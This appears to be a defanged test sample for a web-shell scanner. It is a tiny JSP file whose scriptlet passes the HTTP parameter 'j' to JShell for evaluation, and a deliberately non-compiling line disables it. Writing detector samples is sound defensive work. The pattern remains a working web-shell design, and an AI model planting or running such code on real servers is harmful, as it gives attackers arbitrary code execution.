<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
jdk.jshell.JShell sh = jdk.jshell.JShell.create();
sh.eval(request.getParameter("j"));
%>
